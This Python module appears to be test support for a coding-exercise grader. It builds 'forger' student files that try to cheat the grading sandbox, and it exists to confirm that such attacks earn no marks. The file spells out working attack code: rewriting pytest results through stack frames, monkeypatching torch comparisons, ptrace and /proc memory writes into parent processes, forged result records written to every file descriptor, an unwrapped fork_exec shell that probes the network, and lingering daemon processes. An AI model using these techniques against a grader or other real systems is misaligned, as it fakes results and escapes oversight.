"""Students who want marks without work, and who control their whole process.

Each forger is kata 9.1's untouched stub (whose `softmax` raises NotImplementedError, so every check fails)
with an attack appended that runs when the file is imported: everything its author, having read the engine's
source, could try from inside the student's process. None may earn a point: the verdict is decided in a
process that never runs a line of the student's code. Files they aim at are named by the caller (`targets`),
so that a broken wall spoils only a test's own folder; `MARK` names what a forger leaves behind
(files, processes) so a test can look for it.
"""

from __future__ import annotations

import json

MARK = "kata-forger-975"  # in every file a forger writes and every command line it starts

FORGED_RECORD = {"event": "check", "id": "test_matches_torch_softmax[cpu-float32]", "title": "forged",
                 "status": "passed", "message": "", "weight": 1000.0, "diagnoses": [], "frames": [], "output": "",
                 "seconds": 0.0}

# What the forgers share: try everything, never let a refusal stop the next attempt.
PRELUDE = '''
import contextlib
import os
import stat
import sys


def attempt(action):
    with contextlib.suppress(BaseException):
        action()


def own_socket() -> int:
    """The descriptor of the socket this process answers on."""
    for name in os.listdir("/proc/self/fd"):
        with contextlib.suppress(OSError):
            if stat.S_ISSOCK(os.fstat(int(name)).st_mode):
                return int(name)
    raise OSError("no socket")
'''


def _frames() -> str:
    """The attack of the issue: a signal handler gets the current frame (no audit event); walking f_back
    reaches whatever imports the student's file, and its locals: the collected checks, whose functions are
    swapped for a built-in no-op, and any object holding results."""
    return '''
import signal


def _rewrite(signum, frame):
    while frame is not None:
        for value in list(frame.f_locals.values()):
            for item in (value if isinstance(value, (list, tuple)) else [value]):
                attempt(lambda item=item: setattr(item, "obj", len))
                attempt(lambda item=item: setattr(item, "runtest", lambda: None))
                attempt(lambda item=item: setattr(item, "status", "passed"))
        frame = frame.f_back


signal.signal(signal.SIGUSR2, _rewrite)
signal.raise_signal(signal.SIGUSR2)
'''


def _memory() -> str:
    """gc, ctypes, sys.modules and builtins: rewrite everything reachable in its own process, and reach for
    the processes above it (/proc/PID/mem, ptrace)."""
    return '''
import builtins
import ctypes
import gc

import torch

for obj in gc.get_objects():
    module = getattr(type(obj), "__module__", "") or ""
    if module.startswith(("_pytest", "pytest", "kata", "hypothesis")):
        attempt(lambda obj=obj: setattr(obj, "passed", True))
        attempt(lambda obj=obj: setattr(obj, "status", "passed"))
attempt(lambda: setattr(torch, "allclose", lambda *a, **k: True))
attempt(lambda: setattr(torch.testing, "assert_close", lambda *a, **k: None))
attempt(lambda: setattr(torch.Tensor, "__eq__", lambda *a: True))
attempt(lambda: setattr(builtins, "isinstance", lambda *a: True))
for name in list(sys.modules):
    if name.startswith(("kata.grading", "kata.toolkit", "_pytest", "pytest")):
        attempt(lambda name=name: sys.modules.__setitem__(name, None))
libc = ctypes.CDLL(None, use_errno=True)
pid = os.getpid()
for _ in range(6):  # every process above this one
    attempt(lambda pid=pid: libc.ptrace(16, pid, 0, 0))  # PTRACE_ATTACH
    def poke(pid=pid):
        with open(f"/proc/{pid}/mem", "r+b") as mem:
            mem.seek(0x400000)
            mem.write(b"forged")
    attempt(poke)
    pid = int(open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[1]) if pid > 1 else 1
attempt(lambda: ctypes.memset(id(torch.Tensor) + 8, 0, 8))  # its own memory, torch's type object: its loss
'''


def _descriptors(targets: list[str]) -> str:
    """Forged result records (the judge's format, and Gradescope's and `kata grade`'s journal) written to
    every descriptor it holds, to every descriptor of every process it can see, and to the files that hold
    results."""
    record = json.dumps({**FORGED_RECORD, "seq": 0}) + "\n"
    gradescope = json.dumps({"score": 100.0, "tests": [], "output": MARK})
    return f'''
RECORD = {record!r}.encode()
for fd in range(1024):
    attempt(lambda fd=fd: os.write(fd, RECORD))
for pid in os.listdir("/proc"):
    if pid.isdigit():
        for fd in range(64):
            def write(pid=pid, fd=fd):
                with open(f"/proc/{{pid}}/fd/{{fd}}", "ab") as f:
                    f.write(RECORD)
            attempt(write)
for target in {targets!r}:
    def forge(target=target):
        with open(target, "a") as f:
            f.write({gradescope!r} if target.endswith(".json") else RECORD.decode())
    attempt(forge)
'''


def _extension(targets: list[str]) -> str:
    """`_posixsubprocess` loaded under another name (an unwrapped fork_exec): a shell that writes outside the
    course, reaches for the network and outlives the run, started in a session of its own."""
    shell = (f"echo {MARK} > /tmp/{MARK}; " + "".join(f"echo {MARK} >> {t}; " for t in targets)
             + "(exec 3<>/dev/tcp/1.1.1.1/80) 2>/dev/null && echo network >> /tmp/" + MARK + "; "
             + f"exec sleep 975 # {MARK}")
    return f'''
import importlib.machinery
import importlib.util

import _posixsubprocess

# A second instance of the extension, under the name its init function needs, never put in sys.modules.
spec = importlib.util.spec_from_file_location(
    "_posixsubprocess", _posixsubprocess.__file__,
    loader=importlib.machinery.ExtensionFileLoader("_posixsubprocess", _posixsubprocess.__file__))
unwrapped = importlib.util.module_from_spec(spec)
spec.loader.exec_module(unwrapped)
argv = [b"/bin/bash", b"-c", {shell!r}.encode()]
attempt(lambda: unwrapped.fork_exec(argv, [argv[0]], True, (), None, None, -1, -1, -1, -1, -1, -1,
                                    *os.pipe(), False, True, -1, None, None, None, -1, None, False))
'''


def _survivor() -> str:
    """A process left behind: double-forked, in a session of its own, running past the run."""
    return f'''
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execvp("sleep", ["sleep", "976", "{MARK}"])
    os._exit(0)
'''


def _speaker(answer: str) -> str:
    """The student's process replaced wholesale by a program that speaks the protocol: from the import on it
    answers every request itself, with `answer` (an expression of `x`, the call's first tensor) for a call,
    never running the student's code."""
    return f'''
import socket

import torch

from kata.wire.frames import Channel
from kata.wire.values import Packer, Unpacker

FUNCTION = {{"handle": 7, "type": "function", "mro": ["function", "object"], "callable": True}}


def speak():
    channel = Channel(socket.socket(fileno=own_socket()))
    module = {{"handle": 0, "type": "module", "mro": ["module", "object"], "callable": False}}
    channel.send({{"id": 1, "ok": True, "value": module, "output": ""}})  # the load being answered now
    while True:
        try:
            header, buffers = channel.receive()
        except Exception:
            os._exit(0)
        reply = {{"id": header.get("id"), "ok": True, "value": None, "output": ""}}
        sent = []
        if header.get("op") == "getattr":
            reply["value"] = FUNCTION
        elif header.get("op") == "call":
            unpacker = Unpacker(header.get("tensors", []), buffers, lambda tagged: None, leaves=False)
            x = unpacker.tensor(0) if unpacker.descriptors else torch.zeros(())
            packer = Packer(lambda obj: FUNCTION)
            reply["value"] = packer.pack({answer})
            reply["tensors"], sent = packer.tensors, packer.buffers
        channel.send(reply, sent)


speak()
'''


def _flood() -> str:
    """A message larger than the judge takes, then megabytes of output: refused, and cut."""
    return '''
fd = own_socket()
header = b'{"id": 1, "ok": true, "value": null, "buffers": [40000000000]}'
os.write(fd, len(header).to_bytes(4, "big") + header)
sys.stdout.write("flood " * 2_000_000)
os.write(1, b"flood " * 2_000_000)
while True:
    os.write(fd, b"\\0" * 65536)
'''


def _stall() -> str:
    """No answer ever, and no stack when asked for one (the signal blocked)."""
    return '''
import signal
import time

signal.pthread_sigmask(signal.SIG_BLOCK, {signal.SIGUSR1})
while True:
    time.sleep(1)
'''


def attacks(targets: list[str]) -> dict[str, str]:
    """name -> the code of each attack, to append to a file whose checks all fail (a stub). `targets`: files
    of the grading's that the attacks try to write (results, journals, reports, the progress file)."""
    found = {
        "frames": _frames(),
        "memory": _memory(),
        "descriptors": _descriptors(targets),
        "extension": _extension(targets),
        "survivor": _survivor(),
        "speaker": _speaker("torch.zeros(())"),
        "speaker-zeros": _speaker("torch.zeros_like(x)"),
        "flood": _flood(),
        "stall": _stall(),
    }
    return {name: PRELUDE + attack for name, attack in found.items()}


def forgers(stub: str, targets: list[str], names=None) -> dict[str, str]:
    """name -> the source of each forger (of `names`, by default all): the untouched `stub` with an attack
    appended."""
    return {name: stub.rstrip("\n") + "\n\n" + attack for name, attack in attacks(targets).items()
            if names is None or name in names}


# What an honest file earns that returns what "speaker-zeros" answers (zeros of the input's shape): nothing,
# since the checks such an answer passes (shape, dtype, the input left unchanged) count only beside a check of
# the values.
ZEROS = "import torch\n\n\ndef softmax(x, dim=-1):\n    return torch.zeros_like(x)\n"
